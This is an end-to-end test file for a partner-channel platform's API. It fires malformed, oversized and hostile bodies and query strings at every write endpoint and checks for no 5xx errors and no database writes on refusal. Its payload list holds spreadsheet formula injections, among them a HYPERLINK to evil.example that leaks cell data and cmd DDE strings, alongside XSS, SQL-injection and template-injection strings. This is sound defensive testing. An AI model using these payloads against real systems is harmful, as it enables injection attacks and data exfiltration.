using System.Net;
using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;
using Channel.Hosting.Auth;
using Channel.Testing;
using Dapper;
using Xunit.Abstractions;

namespace Channel.EndToEnd.Tests;

/// <summary>
/// Every write endpoint the services publish, sent what an attacker or a broken client sends:
/// malformed and oversized bodies, the wrong types, invalid UTF-8 and lone surrogates, huge fields,
/// deep nesting, and formula, script and SQL payloads in every text field, all through the gateway
/// as a caller allowed to write there. No answer may be a 5xx; what must be refused is refused; and a
/// refused request leaves the service's database exactly as it was (every table, compared whole).
/// </summary>
public sealed class ResistingHostileInput(TwoTenants system, ITestOutputHelper output) : IClassFixture<TwoTenants>
{
    static readonly string[] Payloads =
    [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")",
        "-2+3+cmd|' /C calc'!A0",
        "+1+cmd|' /C notepad'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "<script>alert(document.cookie)</script>",
        "\"><img src=x onerror=alert(1)>",
        "'; drop table partners; --",
        "Robert\u0000Tables",
        "\u202Egnp.exe",
        "{{7*7}}${7*7}%{7*7}",
    ];

    const string ReportHeader = "report_number,period_start,period_end,invoice_number,invoice_date,transaction_type,reseller_id,end_customer_name,end_customer_country,vendor_sku,quantity,unit_price,extended_amount,currency";

    [Fact]
    public async Task No_hostile_request_gets_a_5xx_and_none_that_is_refused_writes_anything()
    {
        var endpoints = await system.PublishedEndpoints();
        var targets = Targets();
        var writes = endpoints.Where(e => e.Value.Method != "GET").Select(e => e.Key).ToList();
        Assert.Empty(writes.Except(targets.Keys).Select(e => $"{e}: no entry in the hostile-input run"));
        Assert.Empty(targets.Keys.Except(writes).Select(e => $"{e}: an entry for an endpoint that no longer exists"));

        var cases = new List<Case>();
        foreach (var (key, target) in targets)
        {
            if (target is null) continue; // takes no body: nothing to be hostile with
            var service = endpoints[key].Service;
            if (target.Csv) cases.AddRange(ReportCases(key, service, target));
            else cases.AddRange(JsonCases(key, service, target));
        }
        cases.AddRange(QueryCases(endpoints.Values));

        var failures = new List<string>();
        var (refused, accepted) = (0, 0);
        var unsure = new List<Case>();
        foreach (var c in cases)
        {
            var db = Database(c.Service);
            var before = await Fingerprint(db);
            var (status, body, headers) = await Send(c);
            if (status >= 500) failures.Add($"{c.Label}: {status} {Short(body)}");
            else if (c.MustRefuse && status < 400) failures.Add($"{c.Label}: accepted ({status}) {Short(body)}");
            // A page or JSON answer must never carry a script as markup. A file download (an export) keeps the data as it is — the name a
            // partner applied with is its name — so it must be one a browser saves and never renders: an attachment, with nosniff.
            if (body.Contains("<script>", StringComparison.OrdinalIgnoreCase) && !SavedNotRendered(headers))
                failures.Add($"{c.Label}: the answer carries the script unescaped");
            if (status is < 400 or >= 500) { accepted++; continue; }
            refused++;
            if (await Fingerprint(db) != before) unsure.Add(c);
        }

        // Something changed while these were refused: an earlier accepted request's events may have been landing. Once the
        // databases are still, each is sent again: a refused request must change nothing. (Together at the end: one wait
        // for stillness instead of one per case.)
        await Settle();
        foreach (var c in unsure)
        {
            var db = Database(c.Service);
            var before = await Fingerprint(db);
            var (again, _, _) = await Send(c);
            if (again is >= 400 and < 500)
            {
                if (await Fingerprint(db) != before) failures.Add($"{c.Label}: refused ({again}) but wrote to the database");
            }
            else await Settle(); // accepted this time (the state it met has changed): its events must not be taken for the next one's
        }

        output.WriteLine($"hostile-input run: {cases.Count} cases on {targets.Count(t => t.Value is not null)} write endpoints " +
                         $"(+ query strings of {endpoints.Values.Count(e => e.QueryParameters.Length > 0)} endpoints): {refused} refused, " +
                         $"{accepted} accepted, {unsure.Count} rechecked after settling, {failures.Count} failures");
        Assert.True(failures.Count == 0, $"{failures.Count} of {cases.Count}:\n" + string.Join("\n", failures.Take(60)));
    }

    // ---- what each write endpoint is sent, and by whom ----

    /// <summary>Who may write there, where, and a valid body to spoil (fresh each time: some must be unique).</summary>
    sealed record Target(Func<HttpClient> Caller, string Path, Func<JsonNode> Body, bool Csv = false, Table? Table = null);

    /// <summary>An uploaded table (CSV, or JSON rows): its header, a valid line, and which column holds free text.</summary>
    sealed record Table(string Header, Func<string[]> Line, int TextColumn);

    int clients;

    Dictionary<string, Target?> Targets()
    {
        var a = system.A;
        HttpClient Manager() => system.Client(Roles.ChannelManager);
        HttpClient Admin() => system.Client(Roles.Admin);
        HttpClient Partner() => system.Client(Roles.Partner, a.PartnerId);
        HttpClient Distributor() => system.Client(Roles.Distributor, distributorId: a.DistributorId);
        // Anonymous applicants each from an address of their own, so the edge's application limit does not answer for the service.
        HttpClient Applicant() => system.Client(clientAddress: $"10.{(Interlocked.Increment(ref clients) >> 16) & 255}.{(clients >> 8) & 255}.{clients & 255}");
        static JsonNode Reason() => new JsonObject { ["reason"] = "Hostile input run." };
        JsonNode Registration() => JsonNode.Parse(JsonSerializer.Serialize(new
        {
            partnerId = a.PartnerId,
            customer = new { legalName = $"Hostile Run Customer {Guid.NewGuid():N}", domain = "hostile-customer.example", country = "US", region = "WA", sector = "commercial" },
            products = new[] { new { sku = "SW-9300-48P", productFamily = "switching", quantity = 2, amount = 5_000m } },
            totalValue = 5_000m,
            currency = "USD",
            expectedClose = DateTime.UtcNow.AddDays(30).ToString("yyyy-MM-dd"),
            notes = "Hostile input run.",
        }, JsonSerializerOptions.Web))!;
        var p = $"/api/partners/{a.PartnerId}";
        var d = $"/api/distributors/{a.DistributorId}";
        var deal = $"/api/deals/{a.DealId}";

        var targets = new Dictionary<string, Target?>
        {
            ["POST /api/partners/applications"] = new(Applicant, "/api/partners/applications", () =>
            {
                var domain = $"hostile-{Guid.NewGuid():N}"[..20] + ".example";
                return JsonNode.Parse(JsonSerializer.Serialize(new
                {
                    legalName = $"Hostile Applicant {Guid.NewGuid():N}",
                    country = "US",
                    region = "WA",
                    websiteDomain = domain,
                    taxId = $"HX{Guid.NewGuid():N}"[..12],
                    partnerType = "var",
                    primaryContact = new { name = "Hal Hostile", email = $"hal@{domain}" },
                    agreementVersion = "2026-01",
                }, JsonSerializerOptions.Web))!;
            }),
            ["POST /api/partners/{id}/approve"] = new(Manager, $"{p}/approve", () => new JsonObject { ["tier"] = "gold" }),
            ["POST /api/partners/{id}/reject"] = new(Manager, $"{p}/reject", Reason),
            ["POST /api/partners/{id}/clear-hold"] = new(Manager, $"{p}/clear-hold", Reason),
            ["POST /api/partners/{id}/suspend"] = new(Manager, $"{p}/suspend", Reason),
            ["POST /api/partners/{id}/reinstate"] = new(Manager, $"{p}/reinstate", Reason),
            ["POST /api/partners/{id}/terminate"] = new(Manager, $"{p}/terminate", Reason),
            ["POST /api/partners/{id}/tier"] = new(Manager, $"{p}/tier", () => new JsonObject { ["tier"] = "silver", ["reason"] = "Hostile input run." }),
            ["POST /api/partners/{id}/users"] = new(Manager, $"{p}/users",
                () => new JsonObject { ["name"] = "Hostile User", ["email"] = $"u{Guid.NewGuid():N}"[..12] + $"@{a.Domain}", ["role"] = "viewer" }),
            ["PUT /api/partners/{id}/users/{userId}/role"] = new(Manager, $"{p}/users/{a.PartnerUserId}/role", () => new JsonObject { ["role"] = "viewer" }),
            ["DELETE /api/partners/{id}/users/{userId}"] = null,

            ["POST /api/distributors"] = new(Manager, "/api/distributors", () => JsonNode.Parse(JsonSerializer.Serialize(new
            {
                name = $"Hostile Distribution {Guid.NewGuid():N}",
                countries = new[] { "US" },
                regions = new[] { "WA" },
                contacts = new[] { new { name = "Desk", email = "desk@hostile-dist.example", phone = "+1 555 0101", role = "sales" } },
            }, JsonSerializerOptions.Web))!),
            ["POST /api/distributors/{id}/users"] = new(Manager, $"{d}/users",
                () => new JsonObject { ["name"] = "Hostile Operator", ["email"] = $"o{Guid.NewGuid():N}"[..12] + "@hostile-dist.example", ["role"] = "sales" }),
            ["PUT /api/distributors/{id}/users/{userId}/role"] = new(Manager, $"{d}/users/{a.DistributorUserId}/role", () => new JsonObject { ["role"] = "sales" }),
            ["DELETE /api/distributors/{id}/users/{userId}"] = null,
            ["POST /api/distributors/{id}/authorizations"] = new(Manager, $"{d}/authorizations",
                () => new JsonObject { ["partnerId"] = a.PartnerId.ToString(), ["regions"] = new JsonArray("WA") }),
            ["POST /api/distributors/{id}/authorizations/{partnerId}/revoke"] = new(Manager, $"{d}/authorizations/{a.PartnerId}/revoke", Reason),
            ["POST /api/distributors/{id}/reports"] = new(Distributor, $"{d}/reports", () => new JsonObject(), Csv: true),
            ["POST /api/distributors/{id}/suspend"] = new(Manager, $"{d}/suspend", Reason),
            ["POST /api/distributors/{id}/reinstate"] = new(Manager, $"{d}/reinstate", Reason),
            ["POST /api/distributors/{id}/terminate"] = new(Manager, $"{d}/terminate", Reason),

            ["POST /api/deals"] = new(Partner, "/api/deals", Registration),
            ["PUT /api/deals/{id}"] = new(Partner, deal, Registration),
            ["POST /api/deals/{id}/reject"] = new(Manager, $"{deal}/reject", Reason),
            ["POST /api/deals/{id}/return"] = new(Manager, $"{deal}/return", Reason),
            ["POST /api/deals/{id}/extension-request"] = new(Partner, $"{deal}/extension-request", Reason),
            ["POST /api/deals/{id}/won"] = new(Partner, $"{deal}/won", () => new JsonObject { ["actualAmount"] = 4_000m }),
            ["POST /api/deals/{id}/lost"] = new(Partner, $"{deal}/lost", Reason),
            // No body: a hostile one is not read (their query strings are in the query run).
            ["POST /api/deals/{id}/approve"] = null,
            ["POST /api/deals/{id}/resubmit"] = null,
            ["POST /api/deals/{id}/extension"] = null,

            // A kind nothing in this run causes, so the subscriptions it makes owe no deliveries while it runs.
            ["POST /api/notifications/subscriptions"] = new(Partner, "/api/notifications/subscriptions", () => new JsonObject
            {
                ["url"] = "http://127.0.0.1:9/hostile",
                ["kinds"] = new JsonArray("deal.expired"),
                ["description"] = "Hostile input run.",
            }),
            ["PATCH /api/notifications/subscriptions/{id}"] = new(Partner, $"/api/notifications/subscriptions/{a.SubscriptionId}", () => new JsonObject
            {
                ["kinds"] = new JsonArray("deal.approved"),
                ["description"] = "Hostile input run.",
            }),
            ["PUT /api/notifications/preferences"] = new(Partner, "/api/notifications/preferences",
                () => new JsonObject { ["settings"] = new JsonObject { ["deal-approved"] = "off", ["deal-returned"] = "on" } }),
            ["DELETE /api/notifications/subscriptions/{id}"] = null,
            ["POST /api/notifications/subscriptions/{id}/secret"] = null,
            ["POST /api/notifications/subscriptions/{id}/ping"] = null,
            ["POST /api/notifications/subscriptions/{id}/deliveries/{deliveryId}/redeliver"] = null,
            ["POST /api/notifications/admin/mails/{id}/resend"] = null,
            ["POST /api/pricing/price-lists"] = new(Manager, "/api/pricing/price-lists", () => new JsonObject(), Csv: true, Table: new(
                "sku,product_family,list_price,distributor_cost,currency,effective_from",
                () => [$"HX-{Random.Shared.Next(100000, 999999)}", "hostile", "100.00", "60.00", "USD", "2026-01-01"], 1)),
            ["POST /api/pricing/claims"] = new(Distributor, "/api/pricing/claims", () => new JsonObject(), Csv: true, Table: new(
                "claim_number,pa_number,invoice_number,invoice_date,reseller_id,end_customer_name,vendor_sku,quantity,book_cost,authorized_cost,claimed_amount",
                () => [$"HOSTILE-{Guid.NewGuid():N}", a.PaNumber, $"INV-H{Guid.NewGuid():N}"[..14], DateTime.UtcNow.ToString("yyyy-MM-dd"), a.PartnerId.ToString(),
                       "Hostile Buyer", "SW-9300-48P", "1", "6200.00", "5200.00", "1000.00"], 5)),
            ["POST /api/pricing/authorizations/{id}/revoke"] = new(Manager, $"/api/pricing/authorizations/{a.AuthorizationId}/revoke", Reason),
            ["POST /api/pricing/claims/{id}/lines/{lineNo}/dispute"] = new(Distributor, $"/api/pricing/claims/{a.ClaimId}/lines/1/dispute",
                () => new JsonObject { ["comment"] = "Hostile input run." }),
            ["POST /api/pricing/claims/{id}/lines/{lineNo}/resolve"] = new(Manager, $"/api/pricing/claims/{a.ClaimId}/lines/1/resolve",
                () => new JsonObject { ["decision"] = "accept", ["credit"] = 10m, ["comment"] = "Hostile input run." }),
            ["POST /api/pricing/authorizations/{id}/special-bids"] = new(Partner, $"/api/pricing/authorizations/{a.AuthorizationId}/special-bids", () => new JsonObject
            {
                ["competitor"] = "Hostile Networks",
                ["justification"] = "Hostile input run.",
                ["lines"] = new JsonArray(new JsonObject { ["lineNo"] = 1, ["requestedDiscountPercent"] = 60m }),
            }),
            ["POST /api/pricing/authorizations/{id}/special-bids/{bidId}/counter"] = new(Manager, $"/api/pricing/authorizations/{a.AuthorizationId}/special-bids/{Guid.Empty}/counter",
                () => new JsonObject { ["lines"] = new JsonArray(new JsonObject { ["lineNo"] = 1, ["sku"] = "SW-9300-48P", ["netCost"] = 4_000m }), ["reason"] = "Hostile input run." }),
            ["POST /api/pricing/authorizations/{id}/special-bids/{bidId}/reject"] = new(Manager, $"/api/pricing/authorizations/{a.AuthorizationId}/special-bids/{Guid.Empty}/reject", Reason),
            ["POST /api/pricing/authorizations/{id}/special-bids/{bidId}/approve"] = null,
            ["POST /api/pricing/authorizations/{id}/approve"] = null,
            ["POST /api/pricing/claims/{id}/approve"] = null,
            ["POST /api/pricing/claims/{id}/settle"] = null,
            ["POST /api/identity/accounts"] = new(Admin, "/api/identity/accounts", () => new JsonObject
            {
                ["email"] = $"hostile-{Guid.NewGuid():N}@vendor.example",
                ["name"] = "Hostile Run",
                ["role"] = "leadership",
            }),
            ["POST /api/identity/password-resets"] = new(Partner, "/api/identity/password-resets", () => new JsonObject { ["email"] = "nobody@nowhere.example" }),
            ["POST /api/identity/admin/keys/rotate"] = new(Admin, "/api/identity/admin/keys/rotate", () => new JsonObject { ["revokeOthers"] = false }),
            ["POST /api/identity/accounts/{id}/send-reset"] = null,
            ["POST /api/identity/accounts/{id}/unlock"] = null,
            ["POST /api/identity/accounts/{id}/disable"] = null,
            ["POST /api/identity/accounts/{id}/enable"] = null,
            ["POST /api/identity/accounts/{id}/revoke-sessions"] = null,

            // Compliance: what an officer (here an admin) sends. The list import's rows are checked by its feature tests.
            ["POST /api/compliance/rules"] = new(Admin, "/api/compliance/rules", () => JsonNode.Parse(JsonSerializer.Serialize(new
            {
                country = "US",
                customerType = "federal-agency",
                fundingSource = "*",
                productPattern = "optics",
                action = "review",
                citation = "Hostile run",
                description = "Hostile input run.",
                effectiveFrom = "2026-01-01",
            }, JsonSerializerOptions.Web))!),
            ["POST /api/compliance/lists/entries"] = new(Admin, "/api/compliance/lists/entries",
                () => new JsonObject { ["name"] = $"Hostile Listed Party {Guid.NewGuid():N}", ["sourceList"] = "Hostile run" }),
            ["POST /api/compliance/screenings"] = new(Admin, "/api/compliance/screenings", () => new JsonObject { ["name"] = "Hostile Screened Party" }),
            ["POST /api/compliance/lists/imports"] = null,
            ["PUT /api/compliance/rules/{id}"] = null,
            ["POST /api/compliance/rules/{id}/retire"] = null,
            ["POST /api/compliance/lists/entries/{key}/remove"] = null,
            ["POST /api/compliance/queue/{kind}/{id}/clear"] = null,
            ["POST /api/compliance/queue/{kind}/{id}/confirm"] = null,
        };
        foreach (var service in TwoTenants.Services)
        {
            targets[$"PUT /api/{service}/admin/outbox/dead-letters/{{id}}"] = new(Admin, $"/api/{service}/admin/outbox/dead-letters/1",
                () => new JsonObject { ["messageType"] = "Channel.Contracts.Partners.PartnerApproved", ["body"] = new JsonObject() });
            targets[$"DELETE /api/{service}/admin/outbox/dead-letters/{{id}}"] = null;
            targets[$"POST /api/{service}/admin/outbox/dead-letters/{{id}}/requeue"] = null;
            targets[$"POST /api/{service}/admin/errors/{{queue}}/requeue"] = null;
            if (service is not ("reports" or "notifications" or "identity" or "compliance")) targets[$"POST /api/{service}/admin/replay"] = null;
        }
        return targets;
    }

    // ---- the cases ----

    sealed record Case(string Label, string Service, Target Target, Func<HttpContent> Content, bool MustRefuse, string Method = "POST", string? Path = null);

    static string MethodOf(string key) => key[..key.IndexOf(' ')];

    IEnumerable<Case> JsonCases(string key, string service, Target target)
    {
        var method = MethodOf(key);
        Case Refuse(string what, Func<HttpContent> content) => new($"{key}: {what}", service, target, content, true, method);
        Case Try(string what, Func<HttpContent> content) => new($"{key}: {what}", service, target, content, false, method);
        HttpContent Json(string text) => new StringContent(text, Encoding.UTF8, "application/json");
        HttpContent Bytes(byte[] bytes) => new ByteArrayContent(bytes) { Headers = { ContentType = new("application/json") { CharSet = "utf-8" } } };

        // The whole body.
        yield return Refuse("truncated JSON", () => { var s = target.Body().ToJsonString(); return Json(s[..(s.Length / 2)]); });
        yield return Refuse("not JSON", () => Json("definitely not json"));
        yield return Refuse("an array, not an object", () => Json("[]"));
        yield return Refuse("a string, not an object", () => Json("\"x\""));
        yield return Refuse("a number, not an object", () => Json("42"));
        yield return Refuse("null", () => Json("null"));
        yield return Refuse("an empty body", () => Json(""));
        yield return Refuse("garbage after the object", () => Json(target.Body().ToJsonString() + "}}]"));
        yield return Refuse("JSON as text/plain", () => new StringContent(target.Body().ToJsonString(), Encoding.UTF8, "text/plain"));
        yield return Refuse("100,000 nested arrays", () => Json(new string('[', 100_000) + new string(']', 100_000)));
        yield return Refuse("a field nested 5,000 objects deep", () =>
        {
            var body = (JsonObject)target.Body();
            var first = body.First().Key;
            return Json(body.ToJsonString().Replace($"\"{first}\":", $"\"{first}\":" + string.Concat(Enumerable.Repeat("{\"a\":", 5_000)) + "1" + new string('}', 5_000) + ",\"_\":", StringComparison.Ordinal));
        });
        yield return Refuse("a 5 MB body", () =>
        {
            var body = (JsonObject)target.Body();
            body["padding"] = new string('x', 5 * 1024 * 1024);
            return Json(body.ToJsonString());
        });

        // Each field.
        foreach (var (path, value) in Leaves(target.Body()))
        {
            var isText = value.GetValueKind() == JsonValueKind.String;
            yield return Refuse($"{path} of the wrong type", () => Json(Replace(target.Body(), path, isText ? JsonValue.Create(12345) : JsonValue.Create("not a number")).ToJsonString()));
            yield return Refuse($"{path} an object", () => Json(Replace(target.Body(), path, new JsonObject { ["$gt"] = "" }).ToJsonString()));
            if (!isText) continue;
            yield return Refuse($"{path} of 100,000 characters", () => Json(Replace(target.Body(), path, JsonValue.Create(new string('A', 100_000))).ToJsonString()));
            yield return Refuse($"{path} with invalid UTF-8", () =>
            {
                const string marker = "\u2063INVALID\u2063";
                var text = Replace(target.Body(), path, JsonValue.Create("ab" + marker + "cd")).ToJsonString(new JsonSerializerOptions { Encoder = System.Text.Encodings.Web.JavaScriptEncoder.UnsafeRelaxedJsonEscaping });
                var bytes = Encoding.UTF8.GetBytes(text);
                var at = IndexOf(bytes, Encoding.UTF8.GetBytes(marker));
                return Bytes([.. bytes[..at], 0xC3, 0x28, 0xFF, .. bytes[(at + Encoding.UTF8.GetByteCount(marker))..]]);
            });
            yield return Refuse($"{path} with a lone surrogate", () =>
            {
                var text = Replace(target.Body(), path, JsonValue.Create("ab_SURROGATE_cd")).ToJsonString();
                return Json(text.Replace("_SURROGATE_", "\\ud800", StringComparison.Ordinal));
            });
            foreach (var (payload, i) in Payloads.Select((p, i) => (p, i)))
                yield return Try($"{path} = payload {i} {Printable(payload)}", () => Json(Replace(target.Body(), path, JsonValue.Create(payload)).ToJsonString()));
        }
    }

    IEnumerable<Case> ReportCases(string key, string service, Target target)
    {
        var a = system.A;
        var table = target.Table ?? new Table(ReportHeader, () =>
        [
            $"HOSTILE-{Guid.NewGuid():N}", DateTime.UtcNow.ToString("yyyy-MM-01"), DateTime.UtcNow.ToString("yyyy-MM-dd"), "INV-H1",
            DateTime.UtcNow.ToString("yyyy-MM-dd"), "sale", a.PartnerId.ToString(), "Hostile Buyer", "US", "RT-8800", "1", "10.00", "10.00", "USD",
        ], 7);
        var header = table.Header;
        string[] Line() => table.Line();
        var text = table.TextColumn;
        var columns = header.Split(',');
        static string Quote(string s) => "\"" + s.Replace("\"", "\"\"") + "\"";
        HttpContent Csv(string[] line) => new StringContent(header + "\n" + string.Join(",", line.Select(Quote)) + "\n", Encoding.UTF8, "text/csv");
        HttpContent CsvBytes(byte[] bytes) => new ByteArrayContent(bytes) { Headers = { ContentType = new("text/csv") { CharSet = "utf-8" } } };
        HttpContent Json(string text) => new StringContent(text, Encoding.UTF8, "application/json");
        string JsonReport(string[] line) => new JsonArray(new JsonObject(columns.Zip(line).Select(p => KeyValuePair.Create(p.First, (JsonNode?)JsonValue.Create(p.Second))))).ToJsonString();
        Case Refuse(string what, Func<HttpContent> content) => new($"{key}: {what}", service, target, content, true);
        Case Try(string what, Func<HttpContent> content) => new($"{key}: {what}", service, target, content, false);

        yield return Refuse("CSV with invalid UTF-8", () => CsvBytes([.. Encoding.UTF8.GetBytes(header + "\nHOSTILE-X,"), 0xC3, 0x28, 0xFF, (byte)'\n']));
        yield return Refuse("CSV with a 200,000-character quoted field", () => { var l = Line(); l[text] = new string('A', 200_000); return Csv(l); });
        yield return Refuse("CSV with a 100,000-byte line of short fields", () => new StringContent(header + "\n" + string.Join(",", Enumerable.Repeat("ab", 33_400)) + "\n", Encoding.UTF8, "text/csv"));
        yield return Refuse("CSV of random bytes", () => CsvBytes(Random.Shared.GetItems<byte>(Enumerable.Range(0, 256).Select(i => (byte)i).ToArray(), 20_000)));
        yield return Refuse("a report as text/html", () => new StringContent(header + "\n", Encoding.UTF8, "text/html"));
        yield return Refuse("JSON report truncated", () => { var s = JsonReport(Line()); return Json(s[..(s.Length / 2)]); });
        yield return Refuse("JSON report an object", () => Json("{\"lines\": 5}"));
        yield return Refuse("JSON report 100,000 nested arrays", () => Json(new string('[', 100_000) + new string(']', 100_000)));
        yield return Refuse("JSON report a line nested 5,000 deep", () => Json("[{\"report_number\":" + string.Concat(Enumerable.Repeat("{\"a\":", 5_000)) + "1" + new string('}', 5_000) + "}]"));
        yield return Refuse("JSON report with a lone surrogate", () => { var l = Line(); l[text] = "Hostile_SURROGATE_Buyer"; return Json(JsonReport(l).Replace("_SURROGATE_", "\\ud800", StringComparison.Ordinal)); });
        yield return Refuse("JSON report with invalid UTF-8", () =>
        {
            var l = Line();
            l[text] = "Hostile Buyer";
            var bytes = Encoding.UTF8.GetBytes(JsonReport(l));
            var at = IndexOf(bytes, "Hostile Buyer"u8.ToArray());
            bytes[at + 7] = 0xFF;
            return new ByteArrayContent(bytes) { Headers = { ContentType = new("application/json") } };
        });
        yield return Refuse("JSON report with a 200,000-character field", () => { var l = Line(); l[text] = new string('A', 200_000); return Json(JsonReport(l)); });
        for (var column = 0; column < columns.Length; column++)
            foreach (var (payload, i) in Payloads.Select((p, i) => (p, i)))
            {
                var (c, p) = (column, payload);
                yield return Try($"CSV {columns[c]} = payload {i} {Printable(p)}", () => { var l = Line(); l[c] = p; return Csv(l); });
            }
    }

    /// <summary>Every query parameter of every endpoint, sent values no parameter takes.</summary>
    IEnumerable<Case> QueryCases(IEnumerable<Endpoint> endpoints)
    {
        string[] values = ["abc", "-1", "99999999999999999999999", "1e309", "'; drop table deals; --", "<script>alert(1)</script>", new string('9', 5_000), "%00", "2026-13-45"];
        var a = system.A;
        foreach (var e in endpoints.Where(e => e.QueryParameters.Length > 0))
        {
            var path = e.Template
                .Replace("{id}", e.Template.Contains("/dead-letters/") ? "1" : e.Template.Contains("/admin/mails/") ? "999999999" : e.Service switch
                {
                    "partners" => a.PartnerId.ToString(),
                    "distributors" => a.DistributorId.ToString(),
                    "notifications" => a.SubscriptionId.ToString(),
                    "pricing" => (e.Template.Contains("/claims/") ? a.ClaimId : a.AuthorizationId).ToString(),
                    _ => a.DealId.ToString(),
                })
                .Replace("{partnerId}", a.PartnerId.ToString()).Replace("{reportId}", a.ReportId.ToString())
                .Replace("{lineNo}", "1").Replace("{sku}", "SW-9300-48P")
                .Replace("{deliveryId}", a.DeliveryId.ToString(System.Globalization.CultureInfo.InvariantCulture))
                .Replace("{queue}", "nothing").Replace("{view}", e.Template.Contains("sell-through") ? "partner" : "stage");
            // Reads as a manager; the writes that take a query (replay, requeue) as an admin, where refusing writes nothing.
            // Webhook subscriptions are read by their owner: staff who own none are refused before any parameter is read.
            var target = new Target(() => e.Template.Contains("/admin/") ? system.Client(Roles.Admin)
                : e.Service == "notifications" ? system.Client(Roles.Partner, a.PartnerId)
                : system.Client(e.Method == "GET" && e.Service != "compliance" ? Roles.ChannelManager : Roles.Admin), path, () => new JsonObject());
            foreach (var parameter in e.QueryParameters)
                foreach (var value in values)
                    yield return new Case($"{e.Method} {e.Template}?{parameter}={Printable(value)}", e.Service, target, () => null!,
                        e.Method != "GET" && value is not ("-1"), e.Method, $"{path}?{parameter}={Uri.EscapeDataString(value)}");
        }
    }

    // ---- sending, and looking at the database ----

    /// <summary>A download a browser saves and does not render: an attachment of a CSV or spreadsheet type, with nosniff.</summary>
    static bool SavedNotRendered(IReadOnlyDictionary<string, string> headers) =>
        headers.GetValueOrDefault("Content-Disposition", "").StartsWith("attachment", StringComparison.OrdinalIgnoreCase)
        && headers.GetValueOrDefault("X-Content-Type-Options", "").Equals("nosniff", StringComparison.OrdinalIgnoreCase)
        && (headers.GetValueOrDefault("Content-Type", "").StartsWith("text/csv", StringComparison.OrdinalIgnoreCase)
            || headers.GetValueOrDefault("Content-Type", "").StartsWith("application/vnd.openxmlformats", StringComparison.OrdinalIgnoreCase));

    async Task<(int Status, string Body, IReadOnlyDictionary<string, string> Headers)> Send(Case c)
    {
        using var client = c.Target.Caller();
        using var request = new HttpRequestMessage(new HttpMethod(c.Method), c.Path ?? c.Target.Path) { Content = c.Path is null ? c.Content() : null };
        try
        {
            using var response = await client.SendAsync(request);
            var headers = response.Headers.Concat(response.Content.Headers)
                .ToDictionary(h => h.Key, h => string.Join(", ", h.Value), StringComparer.OrdinalIgnoreCase);
            return ((int)response.StatusCode, await response.Content.ReadAsStringAsync(), headers);
        }
        catch (HttpRequestException e) when (e.InnerException is IOException)
        {
            // The server answered early and closed the connection while a too-large body was still going up.
            return (413, e.Message, new Dictionary<string, string>());
        }
    }

    TestDatabase Database(string service) => service switch
    {
        "partners" => system.PartnersDb,
        "distributors" => system.DistributorsDb,
        "deals" => system.DealsDb,
        "notifications" => system.NotificationsDb,
        "identity" => system.IdentityDb,
        "pricing" => system.PricingDb,
        "compliance" => system.ComplianceDb,
        _ => system.ReportingDb,
    };

    readonly Dictionary<string, string> fingerprintSql = [];

    /// <summary>A hash of every row of every table of a service's database.</summary>
    async Task<string> Fingerprint(TestDatabase db)
    {
        await using var conn = await db.Open();
        if (!fingerprintSql.TryGetValue(db.Name, out var sql))
        {
            var tables = await conn.QueryAsync<string>("select tablename from pg_tables where schemaname = 'public' order by 1");
            // Per table, its row count and the sum of a 64-bit hash of every row: no sort and no long string, so a refused request
            // can be checked against the whole database quickly, and any row added, removed or changed still shows.
            sql = "select " + string.Join(" || ';' || ", tables.Select(t =>
                $"(select count(*)::text || ':' || coalesce(sum(hashtextextended(t::text, 0)::numeric), 0)::text from \"{t}\" t)"));
            fingerprintSql[db.Name] = sql;
        }
        return await conn.ExecuteScalarAsync<string>(sql) ?? "";
    }

    /// <summary>Until no database changes for a second: the events of earlier requests have all landed.</summary>
    async Task Settle()
    {
        var dbs = new[] { system.PartnersDb, system.DistributorsDb, system.DealsDb, system.ReportingDb, system.NotificationsDb, system.IdentityDb, system.PricingDb, system.ComplianceDb };
        var last = "";
        var stillSince = DateTime.UtcNow;
        var deadline = DateTime.UtcNow.AddSeconds(60);
        while (DateTime.UtcNow < deadline)
        {
            var now = string.Join(",", await Task.WhenAll(dbs.Select(Fingerprint)));
            // Notifications sends in batches over SMTP and marks them sent when a batch is done: still means nothing is
            // about to be sent or delivered, not only a second without writes.
            var sending = await system.NotificationsDb.Scalar<long>("""
                select (select count(*) from mails where sent_at is null and coalesce(next_attempt_at, now()) <= now() + interval '5 seconds')
                     + (select count(*) from deliveries d join subscriptions s on s.id = d.subscription_id
                        where s.enabled and d.delivered_at is null and d.given_up_at is null and d.next_attempt_at <= now() + interval '5 seconds')
                """);
            if (sending > 0) now += $",sending {sending} {DateTime.UtcNow.Ticks}";
            if (now != last) (last, stillSince) = (now, DateTime.UtcNow);
            else if (DateTime.UtcNow - stillSince > TimeSpan.FromSeconds(1)) return;
            await Task.Delay(100);
        }
    }

    // ---- JSON helpers ----

    /// <summary>Every leaf of a body by its path (customer.legalName, products[0].sku).</summary>
    static IEnumerable<(string Path, JsonValue Value)> Leaves(JsonNode node, string path = "")
    {
        switch (node)
        {
            case JsonObject o:
                foreach (var (name, child) in o)
                    if (child is not null)
                        foreach (var leaf in Leaves(child, path.Length == 0 ? name : $"{path}.{name}")) yield return leaf;
                break;
            case JsonArray arr:
                for (var i = 0; i < arr.Count; i++)
                    if (arr[i] is { } child)
                        foreach (var leaf in Leaves(child, $"{path}[{i}]")) yield return leaf;
                break;
            case JsonValue v:
                yield return (path, v);
                break;
        }
    }

    static JsonNode Replace(JsonNode body, string path, JsonNode value)
    {
        JsonNode? parent = null;
        object? last = null;
        var node = body;
        foreach (var part in path.Replace("[", ".[").Split('.'))
        {
            parent = node;
            last = part.StartsWith('[') ? int.Parse(part[1..^1]) : part;
            node = last is int i ? node![i]! : node![(string)last]!;
        }
        if (last is int index) parent!.AsArray()[index] = value;
        else parent!.AsObject()[(string)last!] = value;
        return body;
    }

    static int IndexOf(byte[] haystack, byte[] needle) => haystack.AsSpan().IndexOf(needle);

    static string Printable(string s) => JsonSerializer.Serialize(s.Length > 40 ? s[..40] + "…" : s);

    static string Short(string body) => body.Length > 300 ? body[..300] + "…" : body;
}
